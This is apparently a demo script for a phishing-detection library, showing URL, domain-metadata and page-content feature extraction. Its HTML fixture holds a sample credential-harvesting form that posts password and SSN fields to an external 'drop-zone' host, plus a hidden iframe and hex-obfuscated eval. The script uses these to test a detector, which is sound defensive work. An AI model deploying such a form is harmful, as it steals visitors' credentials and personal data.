"""Walk through feature extraction: URL lexing, domain metadata, page content.

Run: python demos/01_url_and_content_features.py
"""

from datetime import datetime, timezone

from websentinel.content_analysis import analyze_html, script_obfuscation_score
from websentinel.feature_extraction import (
    FixtureMetadataProvider,
    domain_metadata,
    lexical_features,
    parse_url,
)

# --- 1. Parse a URL into structural parts -----------------------------------

url = "http://secure-login.bank-verify.tk/account/confirm?id=7731"
parts = parse_url(url)
print("URL parts")
print(f"  host                {parts.host}")
print(f"  registrable domain  {parts.registrable_domain}")
print(f"  subdomains          {parts.subdomain_count}")
print(f"  path                {parts.path}")

# --- 2. Lexical features over the raw string --------------------------------

lex = lexical_features(parts, url)
print("\nLexical features")
print(f"  length={lex.url_length}  entropy={lex.char_entropy:.2f} bits  "
      f"digits={lex.digit_ratio:.2f}  hyphens={lex.hyphen_count}  "
      f"suspicious TLD={lex.suspicious_tld}")

# --- 3. Domain metadata through a provider ----------------------------------
# Live deployments plug in a real WHOIS/CT-backed provider; here a fixture
# table stands in. Misses and timeouts degrade instead of failing.

provider = FixtureMetadataProvider({
    "secure-login.bank-verify.tk": {
        "created_date": "2025-06-16T00:00:00Z",
        "cert_valid": False,
    },
})
now = datetime(2025, 7, 31, tzinfo=timezone.utc)
meta = domain_metadata(parts.host, provider, now=now)
print("\nDomain metadata")
print(f"  age={meta.age_days} days  young={meta.is_young}  "
      f"cert_valid={meta.cert_valid}")

missing = domain_metadata("unknown-host.example", provider, now=now)
print(f"  unknown host resolves={missing.provider_resolved} (pipeline continues)")

# --- 4. Page content: credential-harvesting signals -------------------------

html = """
<form action="http://collector.drop-zone.top/submit">
  <input type="password" name="password">
  <input type="text" name="ssn">
</form>
<div style="display:none"><iframe src="http://frames.drop-zone.top/a"></iframe></div>
<script>eval("\\x61\\x6c\\x65\\x72\\x74" + "\\x28\\x31\\x29")</script>
"""
content = analyze_html(html, parts.host)
print("\nContent features")
print(f"  forms={content.form_count} (external actions={content.external_form_actions})")
print(f"  sensitive inputs={content.password_input_count}")
print(f"  hidden elements={content.hidden_element_count}  iframes={content.iframe_count}")
print(f"  max script obfuscation={content.max_script_obfuscation:.2f}")

print("\nObfuscation scorer on its own:")
for label, script in [
    ("benign logging     ", "console.log('cart updated')"),
    ("eval + hex escapes ", 'eval("\\x41\\x42" + "\\x43\\x44" + "\\x45\\x46")'),
]:
    print(f"  {label} -> {script_obfuscation_score(script):.2f}")
